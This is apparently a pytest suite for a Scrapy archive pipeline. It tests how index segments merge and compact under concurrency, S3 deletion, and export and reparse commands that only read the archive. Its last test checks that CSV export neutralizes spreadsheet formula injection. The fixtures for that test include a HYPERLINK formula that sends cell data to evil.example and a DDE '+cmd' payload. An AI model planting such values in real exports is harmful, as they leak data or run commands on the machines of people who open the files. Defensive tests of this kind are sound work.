"""The archive index as segments merged on read: merge order, the legacy file, compaction that
deletes only what it read, and export and reparse, which only read the archive (and never create
one that does not exist)."""

from __future__ import annotations

import asyncio
import csv
import json
import re
from datetime import date
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import pytest
from scrapy.settings import Settings

from pipelines.export import export_archive
from pipelines.index import (
    ArchiveIndex,
    IndexPipeline,
    RunIndex,
    archive_sources,
    compact_index,
    failed_listings,
    read_index,
    segment_keys,
)
from pipelines.keys import index_key, index_segment_key, new_run_id
from pipelines.storage import LocalArchiveStore, open_archive
from tests.archive_reader import S3Archive, index_entries
from tests.conftest import REPARSE_OUTDATED, make_announcements, run_crawl

WINDOW = ("cninfo", "-a", "start=2024-05-08", "-a", "end=2024-05-10")
RUN_A = "2024-05-09T10-00-00+00-00-aaaaaa"
RUN_B = "2024-05-09T11-00-00+00-00-bbbbbb"


def entry(source_id: str, **fields: Any) -> dict[str, Any]:
    return {
        "source_id": source_id,
        "key": f"records/cninfo/{source_id}.json",
        "file_key": f"originals/cninfo/{source_id}.pdf",
        "sha256": "0" * 64,
        "error": None,
        "published": "2024-05-09",
        "parse_status": "ok",
        "parser_version": "1.0.0",
        **fields,
    }


def lines(*entries: dict[str, Any]) -> bytes:
    return "".join(json.dumps(e) + "\n" for e in entries).encode()


@pytest.fixture
def store(tmp_path: Path) -> LocalArchiveStore:
    return LocalArchiveStore(str(tmp_path / "archive") + "/")


def put(store: LocalArchiveStore, key: str, *entries: dict[str, Any]) -> None:
    store.write(key, lines(*entries), "application/x-ndjson")


def test_segments_merge_in_name_order_after_the_legacy_file(store):
    put(store, index_key("cninfo"), entry("1", error="blocked"), entry("2"), entry("3"))
    put(store, index_segment_key("cninfo", RUN_B, 1), entry("1", parser_version="3.0.0"))
    put(store, index_segment_key("cninfo", RUN_A, 1), entry("1", parser_version="2.0.0"))
    put(store, index_segment_key("cninfo", RUN_A, 2), entry("2", error="404"), entry("4"))
    store.write(index_segment_key("cninfo", RUN_A, 3), b'{"damaged\n', "application/x-ndjson")

    index = ArchiveIndex.load(store, "cninfo")

    assert sorted(index.entries) == ["1", "2", "3", "4"]
    assert index.entries["1"]["parser_version"] == "3.0.0"  # the run started later wins
    assert index.entries["1"]["error"] is None  # the legacy file's error was replaced
    assert index.entries["2"]["error"] == "404"  # a later segment of the same run
    assert index.entries["3"] == entry("3")  # only in the legacy file
    run = RunIndex.load(store, "cninfo")
    assert len(run) == 4 and [run.archived(i) for i in "1234"] == [True, False, True, True]
    assert archive_sources(store) == ["cninfo"]
    merge_order = [e["source_id"] for e in read_index(store, "cninfo")]
    assert merge_order == ["1", "2", "3", "1", "2", "4", "1"]  # legacy, A-1, A-2, (A-3), B-1


def test_a_run_writes_only_what_it_added_or_changed(store):
    put(store, index_key("cninfo"), entry("1"), entry("2", error="blocked"))
    index = RunIndex.load(store, "cninfo")
    same = {"source": "cninfo", "source_id": "1", "published_at": "2024-05-09T18:00:00+08:00"}
    same |= {"file": {"key": "originals/cninfo/1.pdf", "sha256": "0" * 64}}
    same |= {"parse": {"status": "ok", "parser_version": "1.0.0"}}

    index.add(same)
    assert index.pending == {}  # unchanged: nothing to write
    index.add({**same, "source_id": "2"})
    index.add({**same, "source_id": "9", "published_at": "2024-06-01T09:00:00+08:00"})

    assert sorted(index.pending) == ["2", "9"]
    assert index.archived("2") and index.last_published().isoformat() == "2024-06-01"


def test_the_pipeline_flushes_new_entries_as_numbered_segments_of_its_run(store):
    crawler = SimpleNamespace(stats=None, spider=SimpleNamespace(source="cninfo"))
    pipeline = IndexPipeline(crawler, store, save_every=3600, run_id=RUN_A, compact_over=2)

    async def run() -> None:
        index = await pipeline.index("cninfo")
        for n in range(3):
            index.add({"source": "cninfo", "source_id": str(n), "published_at": "2024-05-09"})
            await pipeline.flush()
            await pipeline.flush()  # nothing new: no segment
        await pipeline.close_spider()  # 3 segments > 2: compacted into one

    asyncio.run(run())

    (merged,) = segment_keys(store, "cninfo")
    assert re.fullmatch(
        rf"state/index/cninfo/{re.escape(RUN_A)}-000003_c[0-9a-f]{{6}}\.jsonl", merged
    )
    assert sorted(e["source_id"] for e in read_index(store, "cninfo")) == ["0", "1", "2"]


class Wrapped:
    """A local store that something else uses at the same time (see the subclasses)."""

    def __init__(self, store: LocalArchiveStore):
        self.store, self.done = store, False

    def keys(self, prefix: str) -> list[str]:
        return self.store.keys(prefix)

    def read(self, key: str) -> bytes | None:
        return self.store.read(key)

    def write(self, key: str, data: bytes, content_type: str) -> None:
        self.store.write(key, data, content_type)

    def delete(self, key: str) -> None:
        self.store.delete(key)


class LateWriter(Wrapped):
    """A concurrent run writes a segment right after the index is listed: a new record, and a
    newer entry of one the listed segments hold."""

    late = index_segment_key("cninfo", RUN_A, 4)

    def keys(self, prefix: str) -> list[str]:
        found = self.store.keys(prefix)
        if prefix.startswith("state/index/") and not self.done:
            self.done = True
            put(self.store, self.late, entry("late"), entry("1", parser_version="9.0.0"))
        return found


def test_compaction_deletes_exactly_what_it_read(store):
    put(store, index_key("cninfo"), entry("0"))
    for n in range(1, 4):
        put(store, index_segment_key("cninfo", RUN_A, n), entry(str(n)), entry("0", error=f"{n}"))
    put(store, index_segment_key("cninfo", RUN_B, 1), entry("1", parser_version="3.0.0"))
    assert compact_index(store, "cninfo", most=4) == []  # not more than 4: left alone

    deleted = compact_index(LateWriter(store), "cninfo", most=2)

    assert deleted == [
        *(index_segment_key("cninfo", RUN_A, n) for n in range(1, 4)),
        index_segment_key("cninfo", RUN_B, 1),
        index_key("cninfo"),  # the legacy file last
    ]
    assert store.read(index_key("cninfo")) is None
    late, merged = segment_keys(store, "cninfo")  # the late one is kept, in its place
    assert late == LateWriter.late
    assert re.fullmatch(
        rf"state/index/cninfo/{re.escape(RUN_B)}-000001_c[0-9a-f]{{6}}\.jsonl", merged
    )
    index = ArchiveIndex.load(store, "cninfo")
    assert sorted(index.entries) == ["0", "1", "2", "3", "late"]
    assert index.entries["0"]["error"] == "3"
    assert index.entries["1"]["parser_version"] == "3.0.0"  # as before: run B started later


def test_two_compactions_at_once_lose_nothing(store):
    for n in range(1, 6):
        put(store, index_segment_key("cninfo", RUN_A, n), entry(str(n)))
    listed = segment_keys(store, "cninfo")

    class Racing(Wrapped):
        """Another compaction runs between this one's listing and its reads."""

        def keys(self, prefix: str) -> list[str]:
            found = self.store.keys(prefix)
            if not self.done:
                self.done = True
                compact_index(self.store, "cninfo", most=1)
            return found

    deleted = compact_index(Racing(store), "cninfo", most=1)

    assert deleted == []  # the listed segments were gone when read: it wrote and deleted nothing
    assert not set(listed) & set(segment_keys(store, "cninfo"))
    assert sorted(e["source_id"] for e in read_index(store, "cninfo")) == ["1", "2", "3", "4", "5"]


def test_a_compaction_that_read_less_does_not_hide_a_newer_entry(store):
    for n in range(1, 4):
        put(store, index_segment_key("cninfo", RUN_A, n), entry("x", parser_version=f"{n}.0.0"))

    class Overtaken(Wrapped):
        """Between this compaction's reads and its write, a run adds a segment and another
        compaction merges everything, the new segment too."""

        def write(self, key: str, data: bytes, content_type: str) -> None:
            put(
                self.store,
                index_segment_key("cninfo", RUN_B, 1),
                entry("x", parser_version="4.0.0"),
            )
            assert compact_index(self.store, "cninfo", most=1)
            self.store.write(key, data, content_type)

    compact_index(Overtaken(store), "cninfo", most=1)

    assert len(segment_keys(store, "cninfo")) == 2  # two merges, one of them stale
    (x,) = ArchiveIndex.load(store, "cninfo").entries.values()
    assert x["parser_version"] == "4.0.0"  # the stale merge sorts before the newer one


def test_a_reader_lists_again_when_a_compaction_removed_what_it_listed(store):
    for n in range(1, 4):
        put(store, index_segment_key("cninfo", RUN_A, n), entry(str(n)))

    class Compacting(Wrapped):
        """Another run compacts the index between this reader's listing and its reads."""

        def read(self, key: str) -> bytes | None:
            if not self.done and key.startswith("state/index/cninfo/"):
                self.done = True
                compact_index(self.store, "cninfo", most=1)
            return self.store.read(key)

    entries = read_index(Compacting(store), "cninfo")

    assert sorted(e["source_id"] for e in entries) == ["1", "2", "3"]


def test_delete_on_s3_and_failed_listings_read_segments(seaweed, bucket, monkeypatch):
    for name, value in seaweed.env().items():
        monkeypatch.setenv(name, value)
    s3 = open_archive(Settings({"ARCHIVE_URI": f"s3://{bucket}/ir", **seaweed.env()}))
    failed = entry("7", error="blocked", published="2024-05-01")
    put(s3, index_segment_key("cninfo", RUN_A, 1), entry("7", published="2024-05-01"), failed)
    put(s3, index_segment_key("cninfo", RUN_B, 1), entry("8", error="404"), entry("9"))
    record = {"source": "cninfo", "source_id": "7", "file_url": "http://x/7.pdf", "title": "t"}
    s3.write("records/cninfo/7.json", json.dumps(record).encode(), "application/json")

    found = failed_listings(s3, "cninfo", date(2024, 4, 1), date(2024, 5, 9))

    assert found == [record]  # "8" failed too, but on a day after the window
    s3.delete(index_segment_key("cninfo", RUN_A, 1))
    s3.delete("state/index/no-such-key.jsonl")  # no error
    assert segment_keys(s3, "cninfo") == [index_segment_key("cninfo", RUN_B, 1)]
    assert S3Archive(seaweed.client(), bucket, "ir/").keys("state/") == [
        index_segment_key("cninfo", RUN_B, 1)
    ]


def test_run_ids_sort_by_start_and_differ_within_a_second():
    from datetime import UTC, datetime

    moment = datetime(2026, 12, 1, 10, 46, 29, 123456, tzinfo=UTC)
    ids = {new_run_id(moment) for _ in range(50)}
    assert len(ids) == 50
    assert all(re.fullmatch(r"2026-12-01T10-46-29\+00-00-[0-9a-f]{6}", i) for i in ids)
    assert max(ids) < new_run_id(datetime(2026, 12, 1, 10, 46, 30, tzinfo=UTC))


# --- export and reparse only read ----------------------------------------------------------------


@pytest.mark.parametrize("command", ["export", "reparse"])
def test_a_missing_local_archive_is_exit_2_and_is_not_created(cninfo, tmp_path, command):
    missing = tmp_path / "no" / "archive"
    args = [str(tmp_path / "out")] if command == "export" else []

    result = run_crawl(cninfo, *args, archive=str(missing), command=command)

    assert result.returncode == 2, result.stderr[-2000:]
    assert result.stderr.strip().splitlines() == [f"error: archive {missing} does not exist"]
    assert not (tmp_path / "no").exists() and not (tmp_path / "out").exists()


@pytest.mark.parametrize("command", ["export", "reparse"])
def test_a_missing_bucket_is_exit_2_and_is_not_created(cninfo, seaweed, command, tmp_path):
    args = [str(tmp_path / "out")] if command == "export" else []

    result = run_crawl(
        cninfo, *args, archive="s3://no-such-bucket/ir", env=seaweed.env(), command=command
    )

    assert result.returncode == 2, result.stderr[-2000:]
    assert result.stderr.strip().splitlines() == [
        "error: archive s3://no-such-bucket/ir/ does not exist (no such bucket)"
    ]
    names = [b["Name"] for b in seaweed.client().list_buckets().get("Buckets", [])]
    assert "no-such-bucket" not in names


def test_bad_dates_name_the_option_as_typed(cninfo, tmp_path):
    tmp_path.joinpath("archive").mkdir()
    for command, args in [
        ("export", ["--since", "2024-13-01", str(tmp_path / "out")]),
        ("export", ["--until", "tomorrow", str(tmp_path / "out")]),
        ("reparse", ["--since", "yesterday"]),
    ]:
        result = run_crawl(cninfo, *args, archive=str(tmp_path / "archive"), command=command)
        assert result.returncode == 2, result.stderr[-2000:]
        assert f"{args[0]} {args[1]!r}: expected a date as YYYY-MM-DD" in result.stderr
        assert "-a " not in result.stderr and "Traceback" not in result.stderr


def test_export_and_reparse_write_no_index(cninfo, seaweed, bucket, tmp_path):
    cninfo.site.announcements = make_announcements(3)
    uri = f"s3://{bucket}/"
    crawl = run_crawl(cninfo, *WINDOW, archive=uri, env=seaweed.env())
    assert crawl.returncode == 0, crawl.stderr[-3000:]
    client, archive = seaweed.client(), S3Archive(seaweed.client(), bucket)
    (segment,) = archive.keys("state/index/")
    client.delete_object(Bucket=bucket, Key=segment)  # as if killed before flushing
    client.put_object(Bucket=bucket, Key="state/index/cninfo.jsonl", Body=b"")  # a legacy index
    old = archive.record(cninfo.site.announcements[0].announcement_id)
    old = {**old, "location": "旧", "parse": {**old["parse"], "parser_version": "0.0.1"}}
    old_key = f"records/cninfo/{old['source_id']}.json"
    client.put_object(Bucket=bucket, Key=old_key, Body=json.dumps(old, ensure_ascii=False))
    before = {key: archive.head(key)["ETag"] for key in archive.keys("") if key != old_key}

    export = run_crawl(
        cninfo, str(tmp_path / "out"), archive=uri, env=seaweed.env(), command="export"
    )
    reparse = run_crawl(
        cninfo, *REPARSE_OUTDATED, archive=uri, env=seaweed.env(), command="reparse"
    )

    assert export.returncode == 0, export.stderr[-3000:]
    assert "export: 3/3 records" in export.stderr  # the records the index lacks are read in
    assert reparse.returncode == 0, reparse.stderr[-3000:]
    assert "reparse: 1 records checked, 1 rewritten" in reparse.stderr
    assert archive.record(old["source_id"])["location"] != "旧"  # reparse rewrote its record
    after = {key: archive.head(key)["ETag"] for key in archive.keys("") if key != old_key}
    assert after == before  # and wrote nothing else: no index segment, no legacy index
    assert index_entries(archive, "cninfo") == {}


def test_csv_cells_that_start_like_a_formula_are_neutralized(tmp_path):
    record = {
        "source": "cninfo",
        "source_id": "-1",
        "title": '=HYPERLINK("http://evil.example/?"&A1,"点击")',
        "stock_name": "+cmd|' /C calc'!A0",
        "location": "@SUM(1+1)",
        "content_text": "\t=1+1",
        "company_name": "a=b-c+d@e",  # only the first character counts
        "activity_types": ["-特定对象调研", "路演活动"],
        "published_at": "2024-05-09T18:00:00+08:00",
        "qa": [{"question": "=1+1?", "answer": "-"}],
    }

    export_archive([record], tmp_path, "csv")

    with (tmp_path / "records.csv").open(encoding="utf-8", newline="") as handle:
        (row,) = csv.DictReader(handle)
    assert row["source_id"] == "'-1"
    assert row["title"] == "'" + record["title"]
    assert row["stock_name"] == "'" + record["stock_name"]
    assert row["location"] == "'@SUM(1+1)"
    assert row["content_text"] == "'\t=1+1"
    assert row["company_name"] == "a=b-c+d@e"
    assert row["activity_types"] == "'-特定对象调研; 路演活动"
    assert row["published_date"] == "2024-05-09"
    with (tmp_path / "qa.csv").open(encoding="utf-8", newline="") as handle:
        (qa,) = csv.DictReader(handle)
    assert (qa["question"], qa["answer"], qa["position"]) == ("'=1+1?", "'-", "1")
    export_archive([record], tmp_path / "jsonl", "jsonl")  # other formats keep the text as is
    first = json.loads((tmp_path / "jsonl" / "records.jsonl").read_text("utf-8"))
    assert first["title"] == record["title"]
